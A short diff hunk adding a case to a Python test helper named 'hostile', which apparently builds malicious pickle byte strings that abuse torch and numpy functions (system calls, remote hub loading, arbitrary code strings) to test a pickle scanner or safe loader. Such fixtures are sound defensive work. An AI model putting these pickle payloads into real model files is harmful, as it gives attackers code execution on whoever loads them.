@@ -116,6 +116,9 @@ def hostile(victim: Path) -> dict[str, bytes]:
         "torch-load": b"\x80\x02ctorch.serialization\nload\n" + text(str(victim)) + b"\x85R.",
         "load-from-bytes": b"\x80\x02ctorch.storage\n_load_from_bytes\n"
         + pickle.dumps(pickle.dumps(calls["system"]), 4)[11:-2] + b"\x85R.",
+        "lazy-module-as-type": b"\x80\x02ctorch._utils\n_rebuild_tensor_v3\n(("
+        + text("storage") + b"ctorch\nByteStorage\n" + text("0") + text("cpu")
+        + b"K\x18tQK\x00K\x01\x85K\x01\x85\x89Nctorch\n_inductor\ntR.",
         "hub": b"\x80\x02ctorch.hub\nload\n" + text("somebody/repo") + text("net") + b"\x86R.",
         "numpy": b"\x80\x02cnumpy.testing._private.utils\nrunstring\n" + text(code)
         + b"}\x86R.",
